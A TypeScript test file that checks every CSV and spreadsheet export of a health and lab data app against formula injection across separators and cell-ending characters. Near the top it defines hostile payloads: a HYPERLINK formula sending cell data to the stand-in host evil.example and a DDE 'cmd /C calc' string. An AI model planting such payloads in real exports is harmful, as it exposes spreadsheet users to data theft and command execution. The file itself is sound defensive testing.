/** Every file that the pages hand out, with hostile texts wherever somebody else may have written. */
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

import { unzipSync, strFromU8 } from 'fflate'
import { expect, test } from 'vitest'

import type { Person } from '#contract/own/workspace.ts'
import {
  testCheck,
  testChecked,
  testIncident,
  testIssue,
  testProblem,
  testTrouble,
} from '#lib/connections/testing.ts'
import { addDays } from '#lib/days.ts'
import { testMarker, testResult } from '#lib/markers/testing.ts'
import { testAccount } from '#lib/testing.ts'
import { auditColumns } from '#src/app/audit/columns.tsx'
import { providersOf } from '#src/connections/board/board-providers.ts'
import { boardColumns } from '#src/connections/board/columns.tsx'
import { matchOf } from '#src/connections/board/facets.ts'
import { testRows } from '#src/connections/board/testing.ts'
import { issueRows } from '#src/connections/issues/issue-rows.ts'
import { historyCsv, incidentsCsv, issuesCsv } from '#src/connections/issues/issues-csv.ts'
import { en } from '#src/connections/messages/language/en.ts'
import { mailMergeCsv } from '#src/connections/messages/messages.ts'
import type { Sheet, Written } from '#src/kit/lib/files/workbook.ts'
import { listCsv } from '#src/kit/table/list-csv.ts'
import { accountColumns } from '#src/lab/lab-accounts/columns.tsx'
import { accountsCsv as differenceCsv } from '#src/lab/markers/accounts/account-difference-words.ts'
import { compareCatalogs } from '#src/lab/markers/accounts/account-difference.ts'
import { wholeCsv } from '#src/lab/markers/catalog/whole-file.ts'
import { alignResults } from '#src/lab/markers/compare/alignment.ts'
import { comparisonCsv } from '#src/lab/markers/compare/comparison-words.ts'
import { markersCsv } from '#src/lab/markers/markers-csv.ts'
import { setCsv } from '#src/lab/order-sets/files/set-table.ts'
import { setColumns } from '#src/lab/order-sets/library/set-columns.tsx'
import { setsCsv } from '#src/lab/order-sets/saved/compare/compared-items.ts'
import { peopleColumns } from '#src/people/columns.tsx'
import { personRows } from '#src/people/person-rows.ts'
import { cohortCsv, plainCohortCsv } from '#src/workouts/cohort/cohort-csv.ts'
import { compareGroups } from '#src/workouts/cohort/compare-groups.ts'
import { groupsCsv } from '#src/workouts/cohort/groups-csv.ts'
import { search as cohortSearch, type View } from '#src/workouts/cohort/loader.ts'
import { wholeWeeks } from '#src/workouts/cohort/people-weeks.ts'
import { rowMaker } from '#src/workouts/cohort/rows.ts'
import { workoutColumns } from '#src/workouts/model/columns.ts'
import { plainWorkoutsCsv } from '#src/workouts/model/data-csv.ts'
import { countOnce } from '#src/workouts/model/quality/count-once.ts'
import { workoutsCsv } from '#src/workouts/model/table-csv.ts'
import { workout } from '#src/workouts/model/testing.ts'

const FORMULA = '=HYPERLINK("http://evil.example/?"&B9,"open")'
/** What begins a formula, and what ends a cell before it, for one spreadsheet or another. */
const HOSTILE = [
  FORMULA,
  ...['+', '-', '@', '＝', '＋', '－', '＠'].map((sign) => `${sign}1+cmd|' /C calc'!A0`),
  ...[',', ';', '\t', '\n', '\r', '\r\n', '"', '",', '";', ' ', '\uFEFF', ', "', '; "'].map(
    (before) => `flu${before}${FORMULA}`,
  ),
  `\t${FORMULA}`,
  `\n${FORMULA}`,
  `"${FORMULA}"`,
  ` ${FORMULA}`,
]

const TODAY = '2026-11-20'
const now = new Date('2026-11-20T10:00:00Z')
const auditEvent = {
  number: 1,
  at: '2026-11-20T10:00:00.000Z',
  session: null,
  permission: 'people.read',
  subjects: ['11111111-2222-4333-8444-555555555555'],
  status: 200,
  request: null,
}

function workouts(text: string) {
  const all = [
    workout({
      title: text,
      sport: { id: 1, name: text, slug: null },
      source: { provider: text, device_id: text, type: text },
    }),
  ]
  const exclusions = new Map([[all[0]!.id, { figures: null, reason: text }]])
  return { workouts: all, recorded: countOnce(all), exclusions } as unknown as Pick<
    Parameters<typeof plainWorkoutsCsv>[0],
    'workouts' | 'recorded' | 'exclusions'
  >
}
const savedSet = (text: string) => ({
  id: 'a',
  version: 1,
  name: text,
  note: text,
  tags: [text],
  tests: 0,
  codes: 0,
  dx: 0,
  account: text,
  browser: text,
  author: text,
  created_at: '2026-01-01T00:00:00.000Z',
  created_by: { id: '1', name: text },
  saved_at: '2026-01-01T00:00:00.000Z',
  deleted_at: null,
  lab: text,
  accountName: text,
  prices: [text],
  testNames: [text],
  pricedAt: null,
  health: { tone: 'bad' as const, reasons: [text] },
})
const checks = (text: string) => [
  testCheck(
    'a',
    [
      testChecked('garmin', {
        name: text,
        status: text,
        error: { type: text, message: text, at: text },
        troubles: [
          testTrouble({ detail: text, actor: 'person' }),
          testTrouble({ kind: 'unavailable', resource: text, scopes: [text], actor: 'person' }),
        ],
      }),
    ],
    {
      issues: [
        testIssue({ provider: text, name: text, troubles: [testTrouble({ detail: text })] }),
      ],
      unreadable: [text],
      failed: { at: '2026-11-20T08:00:00Z', detail: text } as never,
    },
  ),
]
const marker = (text: string, id = 1) =>
  testMarker(id, ['a'], {
    name: text,
    provider_id: `${text}${id}`,
    type: text,
    unit: text,
    price: text,
    expected_results: [testResult(text, { unit: text, name: text })],
  })
const labs = (text: string) => ({
  known: [],
  slugOf: () => null,
  idOf: () => null,
  nameOfSlug: () => text,
  pending: false,
  labName: () => text,
})
const account = (text: string) =>
  testAccount('a', {
    lab: text,
    status: text,
    delegated_flow: text,
    provider_account_id: text,
    account_name: text,
    allowed_billing: { [text]: [text] },
  })

function cohort(text: string): Parameters<typeof cohortCsv> {
  const days = { start: addDays(TODAY, -89), end: TODAY }
  const weeks = wholeWeeks(days, TODAY)
  const person: Person = {
    user_id: '00000001-0000-4000-8000-000000000000',
    label: text,
    tags: [text],
    added_at: '2026-01-01T00:00:00Z',
  }
  const view = Object.fromEntries(
    Object.entries(cohortSearch).map(([name, param]) => [name, param.initial]),
  ) as View
  return [
    rowMaker({ sport: [], provider: [] }, weeks, TODAY)([person], []),
    {
      view: { ...view, notes: 'with', tag: [text], sport: [text], provider: [text] },
      days,
      weeks,
      total: 1,
      partlyRead: 1,
      text,
      hideIdentifiers: false,
      nameOf: () => text,
      at: now,
    },
  ]
}

const board = (text: string, isGrid: boolean) => {
  const rows = testRows(checks(text), [testProblem('a', 'garmin', { owner: text, note: text })], {
    a: { label: text, tags: [text] },
  })
  return listCsv(
    boardColumns(isGrid ? providersOf(rows) : null),
    rows,
    { hideIdentifiers: false, isMatch: matchOf({}), today: TODAY, now: Date.parse(TODAY) },
    [text],
  )
}

const issues = (text: string) =>
  issueRows(
    [
      testProblem('a', text, {
        name: text,
        troubles: [testTrouble({ detail: text })],
        owner: text,
        note: text,
      }),
    ],
    () => text,
  )
const aroundIssues = (text: string) => ({ filteredBy: text, total: 1, at: now, isHidden: false })

/** By the file that calls `toCsv`, `listCsv` or `plainCsv`: what it writes, with this text wherever a text may be. */
const exportsOf: Record<string, ((text: string) => string)[]> = {
  'src/workouts/model/table-csv.ts': [
    (text) =>
      workoutsCsv({
        ...workouts(text),
        columns: workoutColumns.filter(({ isUsual }) => isUsual),
        units: 'metric',
        comments: [`Note: ${text}`],
      }),
  ],
  'src/workouts/model/data-csv.ts': [
    (text) =>
      plainWorkoutsCsv({
        ...workouts(text),
        notes: [{ id: '1', start_day: '2026-11-01', end_day: '2026-11-01', text, version: 1 }],
        comments: [`Note: ${text}`],
        hideIdentifiers: false,
      }),
  ],
  'src/lab/order-sets/saved/compare/compared-items.ts': [
    (text) => {
      const set = {
        name: text,
        version: 1,
        content: { tests: [], codes: [], dx: [], account: '' },
        snapshot: null,
      }
      const items = [{ kind: 'Included marker' as const, code: text, name: text, price: text }]
      return setsCsv([set, set], [items, items, items], now)
    },
  ],
  'src/lab/order-sets/library/OrderSetsPage.tsx': [
    (text) => listCsv(setColumns, [savedSet(text)], undefined, [text]),
  ],
  'src/people/PeoplePage.tsx': [
    (text) =>
      listCsv(
        peopleColumns,
        personRows(
          [{ user_id: 'a', label: text, tags: [text], added_at: '2026-01-01T00:00:00Z' }],
          checks(text),
        ),
        { hideIdentifiers: false },
        [text],
      ),
  ],
  'src/connections/board/board-file.ts': [
    (text) => board(text, false),
    (text) => board(text, true),
  ],
  'src/connections/issues/issues-csv.ts': [
    (text) => issuesCsv(issues(text), aroundIssues(text)),
    (text) =>
      historyCsv(
        issues(text),
        [
          {
            problem_id: issues(text)[0]!.problem.id,
            user_id: issues(text)[0]!.problem.user_id,
            at: text,
            kind: 'changed',
            author: text,
            browser: text,
            fields: [{ name: 'note', before: text, after: text }],
          },
        ],
        aroundIssues(text),
      ),
    (text) =>
      incidentsCsv(
        [testIncident(text, ['a'], { name: text, causes: [text] })],
        () => text,
        aroundIssues(text),
      ),
  ],
  'src/workouts/cohort/cohort-csv.ts': [
    (text) => cohortCsv(...cohort(text)),
    (text) => plainCohortCsv(...cohort(text)),
  ],
  'src/workouts/cohort/groups-csv.ts': [
    (text) =>
      groupsCsv({
        ...cohort(text)[1],
        names: [text, text],
        shared: 0,
        comparison: compareGroups([[1], [2]]),
      }),
  ],
  'src/lab/markers/markers-csv.ts': [
    (text) =>
      markersCsv(
        { markers: [marker(text)], total: 1, page: 1, size: 50 },
        { labs: labs(text), query: text, rejected: 0, readAt: now },
      ),
  ],
  'src/lab/markers/catalog/whole-file.ts': [
    (text) => wholeCsv({ rows: [marker(text)], labs: labs(text), about: [text] }),
  ],
  'src/lab/markers/compare/comparison-words.ts': [
    (text) =>
      comparisonCsv(
        [marker(text), marker(text, 2)],
        alignResults([marker(text), marker(text, 2)]),
        {
          titles: [text, text],
          absent: [text],
          labName: () => text,
          readAt: now,
        },
      ),
  ],
  'src/lab/markers/accounts/account-difference-words.ts': [
    (text) =>
      differenceCsv(compareCatalogs([marker(text)], [marker(text, 2)]), {
        here: text,
        there: text,
        labName: () => text,
        readAt: now,
      }),
  ],
  'src/lab/lab-accounts/LabAccountsPage.tsx': [
    (text) =>
      listCsv(accountColumns, [account(text)], { labs: { nameOfSlug: () => text } }, [text]),
  ],
  'src/lab/order-sets/files/set-table.ts': [
    (text) =>
      setCsv(
        {
          name: text,
          note: text,
          tags: [],
          team: text,
          labTests: [{ id: text, name: text }],
          addOns: [{ labId: '1', labSlug: text, lab: text, code: text, name: text }],
          diagnoses: [{ code: text, title: text, mark: text }],
          account: { id: text, known: account(text) },
          route: { state: text, billing: text },
          lab: text,
          markers: [{ marker: marker(text), lab: text, from: text }],
          warnings: [text],
        },
        now,
      ),
  ],
  'src/app/audit/AuditExports.tsx': [
    (text) =>
      listCsv(
        auditColumns,
        [
          {
            ...auditEvent,
            action: text,
            object: text,
            address: text,
            member: { id: '', name: text },
            key: null,
            object_name: text,
          },
          {
            ...auditEvent,
            action: text,
            object: null,
            address: null,
            member: null,
            key: { id: '', name: text },
            object_name: null,
          },
        ],
        { nameOf: () => text, isHidden: false },
        [text],
      ),
  ],
  'src/connections/messages/messages.ts': [
    (text) =>
      mailMergeCsv(
        checks(text).map((check) => ({ ...check, label: text, tags: [text] })),
        () => en,
      ),
  ],
}

/** The cells as a spreadsheet reads them that ends one at `separator`: it sees a quote only where a cell begins. */
function cellsOf(csv: string, separator: string): string[] {
  const cells: string[] = []
  const text = csv.replace(/^\uFEFF/, '')
  for (let at = 0; at <= text.length;) {
    let cell = ''
    if (text[at] === '"')
      for (at++; at < text.length; at++) {
        if (text[at] === '"' && text[at + 1] !== '"') {
          at++
          break
        }
        if (text[at] === '"') at++
        cell += text[at]
      }
    while (at < text.length && text[at] !== separator && !/[\r\n]/.test(text[at]!))
      cell += text[at++]
    at++
    cells.push(cell)
  }
  return cells
}
const isFormula = (cell: string) =>
  /^\s*"?\s*[=+\-@＝＋－＠]/.test(cell) && !/^\s*[-+]?[\d.,]+"?\s*$/.test(cell)

for (const [file, writers] of Object.entries(exportsOf))
  test(`no cell of ${file} starts a formula, for any text and separator`, () => {
    for (const hostile of HOSTILE)
      for (const [n, write] of writers.entries()) {
        const csv = write(hostile)
        expect(csv).toMatch(/HYPERLINK|calc/)
        for (const separator of [',', ';', '\t'])
          expect([n, hostile, separator, cellsOf(csv, separator).filter(isFormula)]).toEqual([
            n,
            hostile,
            separator,
            [],
          ])
      }
  })

const KIT = ['src/kit/lib/files/csv.ts', 'src/kit/table/list-csv.ts', 'src/kit/table/save-list.ts']

test('every file that writes a CSV is listed in this test', () => {
  const root = join(import.meta.dirname, '..', '..')
  const writing = ['src', 'lib', 'server'].flatMap((folder) =>
    readdirSync(join(root, folder), { recursive: true, encoding: 'utf8' })
      .map((name) => `${folder}/${name}`)
      .filter((name) => /(?<!test|testing)\.tsx?$/.test(name) && !KIT.includes(name))
      .filter((name) =>
        /\b((to|list|plain)Csv|saveList)\(|text\/csv/.test(readFileSync(join(root, name), 'utf8')),
      ),
  )
  // these hand out what the others wrote
  const handingOut = writing.filter(
    (name) => !/\b((to|list|plain)Csv|saveList)\(/.test(readFileSync(join(root, name), 'utf8')),
  )
  expect(writing.filter((name) => !handingOut.includes(name)).toSorted()).toEqual(
    Object.keys(exportsOf).toSorted(),
  )
  for (const name of handingOut)
    expect([name, /Csv\b|\bcsv\b/.test(readFileSync(join(root, name), 'utf8'))]).toEqual([
      name,
      true,
    ])
})

test('a workbook has texts and numbers, but no formula', async () => {
  const workers = globalThis as unknown as {
    self?: { addEventListener: unknown; postMessage: unknown }
  }
  let ask!: (message: { data: readonly Sheet[] }) => Promise<void>
  let written: Written | null = null
  workers.self = {
    addEventListener: (_type: string, listener: typeof ask) => (ask = listener),
    postMessage: (message: Written) => (written = message),
  }
  await import('#src/kit/lib/files/workbook-worker.ts')
  const columns = [{ width: 10 }, { width: 10, format: '@' }, { width: 10, format: '#,##0.00' }]
  await ask({
    data: [
      {
        name: 'Markers',
        columns,
        header: HOSTILE.slice(0, 3),
        rows: HOSTILE.map((text) => [text, text, text]),
      },
    ],
  })
  delete workers.self
  const { workbook } = written! as { workbook: Blob }
  const files = Object.entries(unzipSync(new Uint8Array(await workbook.arrayBuffer())))
  const xml = files.map(([name, bytes]) => [name, strFromU8(bytes)] as const)
  expect(xml.some(([, text]) => text.includes('HYPERLINK'))).toBe(true)
  for (const [name, text] of xml) expect([name, /<f[\s>]/.test(text)]).toEqual([name, false])
})
